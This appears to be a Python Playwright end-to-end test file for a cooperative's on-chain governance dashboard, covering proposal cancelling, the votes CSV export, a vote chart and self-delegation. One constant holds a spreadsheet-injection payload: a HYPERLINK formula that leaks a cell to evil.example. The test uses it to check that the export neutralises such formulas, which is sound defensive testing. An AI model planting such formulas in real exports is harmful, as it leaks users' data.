"""The proposal page's remaining features in a browser: cancel by the proposer, the votes
CSV, the cumulative-votes chart, and the readiness panel's self-delegation fix.

Runs on a chain and app of its own: it adds a proposal (the shared wallet chain's
feed test counts the seeded ones) and casts votes on the seeded active proposal.
Accounts (anvil indexes, see chain/seed.py MEMBERS): Amara (1) and Bjorn (2) vote
with tricky reasons, Grace (7) abstains with no power of her own, Elif (5) proposes
and cancels, Kavya (11) holds tokens and has never delegated.
"""

from __future__ import annotations

import csv
from collections.abc import Callable
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pytest
from playwright.sync_api import Page, expect
from web3 import Web3
from web3.contract import Contract

from coop_dashboard.chain.transact import Sender
from coop_dashboard.services.governance.export import CSV_HEADER
from tests.e2e.app_server import AppServer, StartApp, chain_settings
from tests.e2e.flows import STEP_TIMEOUT_MS, delegate_of, sign_in
from tests.e2e.wallet import TestWallet, anvil_key, install_wallets
from tests.support.chains import SeededChain

pytestmark = pytest.mark.e2e

AMARA, BJORN, ELIF, GRACE, KAVYA = 1, 2, 5, 7, 11
FOR, AGAINST, ABSTAIN = 1, 0, 2
SUPPORT_LABELS = {AGAINST: "Against", FOR: "For", ABSTAIN: "Abstain"}
CANCELED = 2  # IGovernor.ProposalState
COOP = 18  # decimals
# Reasons a naive CSV writer or reader would mangle, and one a spreadsheet would run.
QUOTED_REASON = 'Yes, "absolutely": labels checked,\nprices fair; second line too.'
FORMULA_REASON = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
PLUS_REASON = "+1, agreed"
# A new proposal reaches the page once indexed (the indexer polls every 0.25 s).
INDEX_WAIT_ROUNDS = 20
# The header follows new blocks through the live-data hub (no timer).
HEADER_FOLLOWS_MS = 5_000


@pytest.fixture(scope="module")
def page_chain(start_seeded_chain: Callable[[], SeededChain]) -> SeededChain:
    return start_seeded_chain()


@pytest.fixture(scope="module")
def page_app(start_app: StartApp, page_chain: SeededChain) -> AppServer:
    return start_app("proposal-page", **chain_settings(page_chain))


def _governor(chain: SeededChain) -> Contract:
    return chain.deployment.contract(chain.w3, "CoopGovernor")


def _token(chain: SeededChain) -> Contract:
    return chain.deployment.contract(chain.w3, "CoopToken")


def _member(chain: SeededChain, index: int) -> Sender:
    return Sender.unlocked(chain.w3, str(anvil_key(index).address))


def _wallet(chain: SeededChain, *indexes: int) -> TestWallet:
    keys = [anvil_key(index) for index in indexes]
    return TestWallet(chain.rpc_url, chain_id=chain.chain_id, keys=keys)


def _open(page: Page, app: AppServer, wallet: TestWallet, proposal_id: int) -> None:
    """Sign in on the proposal's page, reloading until the indexer has the proposal."""
    install_wallets(page, wallet)
    title = page.locator("#proposal-title")
    shown = title.or_(page.locator("#proposal-not-found"))
    for _ in range(INDEX_WAIT_ROUNDS):
        page.goto(f"{app.url}/proposals/{proposal_id}")
        expect(shown.first).to_be_visible(timeout=STEP_TIMEOUT_MS)
        if title.is_visible():
            break
        page.wait_for_timeout(500)
    expect(title).to_be_visible()
    sign_in(page, wallet)


def _done(page: Page, what: str) -> None:
    expect(page.locator("#tx-description")).to_contain_text(what, timeout=STEP_TIMEOUT_MS)
    expect(page.locator("#tx-status")).to_have_attribute(
        "data-phase", "done", timeout=STEP_TIMEOUT_MS
    )


def _vote_once(chain: SeededChain, voter: int, proposal_id: int, support: int, reason: str) -> None:
    governor = _governor(chain).functions
    address = Web3.to_checksum_address(anvil_key(voter).address)
    if not governor.hasVoted(proposal_id, address).call():
        _member(chain, voter).call(
            governor.castVoteWithReason(proposal_id, support, reason), what="vote with a reason"
        )


def _vote_casts(chain: SeededChain, proposal_id: int) -> list[dict[str, Any]]:
    """The Governor's VoteCast events for the proposal, in log order (proposalId is not indexed)."""
    events = _governor(chain).events.VoteCast.get_logs(from_block=0)
    return [dict(e) for e in events if e["args"]["proposalId"] == proposal_id]


# ---------- cancel ----------


def test_the_proposer_cancels_a_pending_proposal(
    page_app: AppServer, page_chain: SeededChain, page: Page
) -> None:
    chain = page_chain
    governor = _governor(chain)
    description = "# Withdrawn before voting\n\nA proposal its author takes back.\n"
    args = ([Web3.to_checksum_address("0x" + "5e" * 20)], [0], [b""])
    _member(chain, ELIF).call(governor.functions.propose(*args, description), what="propose")
    proposal_id = governor.functions.hashProposal(*args, Web3.keccak(text=description)).call()
    assert governor.functions.state(proposal_id).call() == 0  # pending

    wallet = _wallet(chain, ELIF)
    _open(page, page_app, wallet, proposal_id)
    cancel = page.locator("#proposal-cancel")
    expect(cancel).to_be_visible(timeout=STEP_TIMEOUT_MS)
    cancel.click()

    _done(page, "Cancel proposal")
    (tx_hash,) = wallet.sent
    assert chain.w3.eth.get_transaction_receipt(tx_hash)["status"] == 1
    assert governor.functions.state(proposal_id).call() == CANCELED
    expect(page.locator(".state-badge").first).to_have_text("Canceled", timeout=STEP_TIMEOUT_MS)
    expect(page.locator(".timeline-entry", has_text="Canceled")).to_have_count(1)
    expect(cancel).to_have_count(0)


def test_only_the_proposer_is_offered_cancel(
    page_app: AppServer, page_chain: SeededChain, page: Page
) -> None:
    """The seeded pending proposal is Bjorn's: he sees Cancel; Amara, signed in after him,
    does not (the button goes when the session changes, and stays gone)."""
    proposal_id = page_chain.report.proposals["pending"]
    wallet = _wallet(page_chain, BJORN, AMARA)
    _open(page, page_app, wallet, proposal_id)
    cancel = page.locator("#proposal-cancel")
    expect(cancel).to_be_visible(timeout=STEP_TIMEOUT_MS)

    wallet.switch_account(1)  # the person picks Amara in the wallet: Bjorn is signed out
    expect(cancel).to_have_count(0, timeout=STEP_TIMEOUT_MS)
    page.locator("#sign-in").click()
    expect(page.locator("#account-menu")).to_have_attribute(
        "data-address", wallet.address, timeout=STEP_TIMEOUT_MS
    )
    # Signing in re-asks what this member may do here: give it time to answer.
    page.wait_for_timeout(3_000)
    expect(cancel).to_have_count(0)
    assert wallet.sent == []
    assert _governor(page_chain).functions.state(proposal_id).call() == 0


# ---------- votes CSV ----------


def test_votes_csv_equals_the_chain_and_is_spreadsheet_safe(
    page_app: AppServer, page_chain: SeededChain, page: Page
) -> None:
    chain = page_chain
    proposal_id = chain.report.proposals["active"]
    _vote_once(chain, AMARA, proposal_id, FOR, QUOTED_REASON)
    _vote_once(chain, BJORN, proposal_id, AGAINST, FORMULA_REASON)
    _vote_once(chain, GRACE, proposal_id, ABSTAIN, PLUS_REASON)  # delegated away: weight 0
    casts = _vote_casts(chain, proposal_id)
    assert len(casts) == 6  # three seeded + three above

    _open(page, page_app, _wallet(chain, KAVYA), proposal_id)
    expect(page.locator(".vote-row")).to_have_count(len(casts), timeout=STEP_TIMEOUT_MS)
    with page.expect_download() as download_info:
        page.locator("#proposal-csv").click()
    download = download_info.value
    assert download.suggested_filename.startswith("votes-")
    assert download.suggested_filename.endswith(".csv")
    with open(download.path(), encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert tuple(rows[0].keys()) == CSV_HEADER

    snapshot = _governor(chain).functions.proposalSnapshot(proposal_id).call()
    token = _token(chain).functions
    assert len(rows) == len(casts)
    by_voter = {row["voter"].lower(): row for row in rows}
    for cast in casts:
        voter = cast["args"]["voter"]
        row = by_voter[voter.lower()]
        weight = cast["args"]["weight"]
        assert weight == token.getPastVotes(voter, snapshot).call()
        assert row["support"] == SUPPORT_LABELS[cast["args"]["support"]]
        assert row["weight_base_units"] == str(weight)
        assert Decimal(row["weight"]) == Decimal(weight).scaleb(-COOP)
        assert row["block"] == str(cast["blockNumber"])
        assert row["tx"].lower() == cast["transactionHash"].to_0x_hex().lower()
        reason = cast["args"]["reason"]
        # Formula-looking reasons come back with the neutralising quote, nothing else.
        expected = "'" + reason if reason.startswith(("=", "+", "-", "@")) else reason
        assert row["reason"] == expected
    assert by_voter[anvil_key(AMARA).address.lower()]["reason"] == QUOTED_REASON
    assert by_voter[anvil_key(BJORN).address.lower()]["reason"] == "'" + FORMULA_REASON
    assert by_voter[anvil_key(GRACE).address.lower()]["weight_base_units"] == "0"
    # No cell of the file would be evaluated by a spreadsheet.
    with open(download.path(), encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


# ---------- cumulative votes chart ----------

_FIGURE_JS = """() => {
    const plot = document.querySelector('.js-plotly-plot');
    if (!plot || !plot.data || !plot._fullLayout) return null;
    return {
        traces: plot.data.map((t) => ({name: t.name, x: Array.from(t.x), y: Array.from(t.y)})),
        xaxisType: plot._fullLayout.xaxis.type,
        xaxisRange: plot.layout.xaxis.range,
        drawn: plot.querySelectorAll('.scatterlayer .trace').length,
    };
}"""


def test_chart_shows_the_cumulative_votes_of_the_governor(
    page_app: AppServer, page_chain: SeededChain, page: Page
) -> None:
    chain = page_chain
    proposal_id = chain.report.proposals["active"]
    _open(page, page_app, _wallet(chain, KAVYA), proposal_id)
    against, for_votes, abstain = _governor(chain).functions.proposalVotes(proposal_id).call()
    # The tally has caught up with the chain, so the chart was drawn from the same votes.
    expect(page.locator("#proposal-tally")).to_have_attribute(
        "data-for", str(for_votes), timeout=STEP_TIMEOUT_MS
    )
    # The chart (and its bundle) loads once scrolled to.
    page.locator("#proposal-chart").scroll_into_view_if_needed()
    expect(page.locator(".js-plotly-plot .main-svg").first).to_be_visible(timeout=STEP_TIMEOUT_MS)
    page.wait_for_function(f"() => ({_FIGURE_JS})() !== null", timeout=STEP_TIMEOUT_MS)
    figure = page.evaluate(_FIGURE_JS)
    traces = {trace["name"]: trace for trace in figure["traces"]}
    assert set(traces) == {"For", "Against", "Abstain"}
    assert figure["drawn"] == 3  # every trace is drawn as an svg path group
    assert figure["xaxisType"] == "date"  # the times are read as times, not as labels
    for name, total in (("For", for_votes), ("Against", against), ("Abstain", abstain)):
        ys = traces[name]["y"]
        assert ys[0] == 0  # every line starts at 0 when voting opens
        assert ys == sorted(ys)  # running totals never go down
        assert ys[-1] == pytest.approx(float(Decimal(total).scaleb(-COOP)), rel=1e-12)
    # The For line steps once per For vote (plus its start and end points).
    fors = [c for c in _vote_casts(chain, proposal_id) if c["args"]["support"] == FOR]
    assert len(traces["For"]["y"]) == len(fors) + 2
    # Voting is still open: the lines stop at the chain's present, not at the deadline,
    # while the time axis spans the whole voting period.
    governor = _governor(chain).functions
    latest = chain.w3.eth.get_block("latest")["timestamp"]
    for trace in traces.values():
        assert max(_utc(x) for x in trace["x"]) <= latest
    start, end = (_utc(x) for x in figure["xaxisRange"])
    assert (start, end) == (
        governor.proposalSnapshot(proposal_id).call(),
        governor.proposalDeadline(proposal_id).call(),
    )
    assert end > latest


def _utc(text: str) -> int:
    """Unix seconds of a chart time (ISO text; plotly drops the zone, so naive means UTC)."""
    moment = datetime.fromisoformat(text)
    return int((moment if moment.tzinfo else moment.replace(tzinfo=UTC)).timestamp())


# ---------- readiness: the self-delegation fix ----------


def test_readiness_offers_self_delegation_and_explains_the_snapshot(
    page_app: AppServer, page_chain: SeededChain, page: Page
) -> None:
    chain = page_chain
    proposal_id = chain.report.proposals["active"]
    wallet = _wallet(chain, KAVYA)
    kavya = Web3.to_checksum_address(wallet.address)
    assert delegate_of(chain, kavya) == "0x" + "0" * 40
    assert _token(chain).functions.balanceOf(kavya).call() == 40_000 * 10**COOP

    _open(page, page_app, wallet, proposal_id)
    readiness = page.locator("#vote-readiness")
    expect(readiness).to_contain_text("have not delegated", timeout=STEP_TIMEOUT_MS)
    expect(readiness).to_contain_text("40,000 COOP")
    fix = page.locator("#readiness-self-delegate")
    expect(fix).to_have_text("Delegate to myself")
    fix.click()

    _done(page, "Delegate your votes to yourself")
    (tx_hash,) = wallet.sent
    assert chain.w3.eth.get_transaction_receipt(tx_hash)["status"] == 1
    assert delegate_of(chain, kavya) == kavya
    expect(readiness).to_contain_text("delegated to yourself", timeout=STEP_TIMEOUT_MS)
    expect(fix).to_have_count(0)
    # The header's voting power follows at once, not on its slow timer.
    votes_now = _token(chain).functions.getVotes(kavya).call()
    assert votes_now == 40_000 * 10**COOP
    expect(page.locator("#header-votes")).to_have_attribute(
        "data-value", str(votes_now // 10**COOP), timeout=HEADER_FOLLOWS_MS
    )
    # This proposal's snapshot came before the delegation: it still counts 0 here.
    snapshot = _governor(chain).functions.proposalSnapshot(proposal_id).call()
    assert _token(chain).functions.getPastVotes(kavya, snapshot).call() == 0
    expect(readiness).to_have_attribute("data-power-at-snapshot", "0")
    expect(readiness).to_contain_text("Your voting power at this proposal's snapshot: 0 COOP.")
    expect(readiness).to_contain_text("A vote from you would count with a weight of 0.")
    expect(readiness).to_contain_text("only for later proposals")


def test_readiness_is_asked_when_the_session_changes_not_on_every_move(
    page_app: AppServer, page_chain: SeededChain, page: Page
) -> None:
    """The page's load reads the vote panel for whoever is signed in; signing in or out on
    the page asks again (one check_readiness each), and moving between pages does not
    (it used to send one more event per move, for what the load had just read)."""
    sent: list[str] = []
    page.on("websocket", lambda socket: socket.on("framesent", lambda data: sent.append(str(data))))

    def count(handler: str) -> int:
        return sum(handler in frame for frame in sent)

    proposal_id = page_chain.report.proposals["active"]
    wallet = _wallet(page_chain, KAVYA)
    _open(page, page_app, wallet, proposal_id)  # loads signed out, then signs in
    readiness = page.locator("#vote-readiness")
    expect(readiness).to_contain_text("40,000 COOP", timeout=STEP_TIMEOUT_MS)
    assert count("check_readiness") == 1

    loads = count("on_load_internal")
    page.locator("#nav-proposals").click()  # client-side moves: same socket, no reload
    card = page.locator(f'.proposal-card[data-proposal-id="{proposal_id}"]')
    card.locator(".proposal-title").click()
    expect(page.locator("#proposal-title")).to_be_visible(timeout=STEP_TIMEOUT_MS)
    expect(readiness).to_contain_text("40,000 COOP", timeout=STEP_TIMEOUT_MS)
    assert count("on_load_internal") == loads + 2
    assert count("check_readiness") == 1

    page.locator("#account-menu").click()
    page.locator("#sign-out").click()
    expect(readiness).not_to_contain_text("40,000 COOP", timeout=STEP_TIMEOUT_MS)
    assert count("check_readiness") == 2
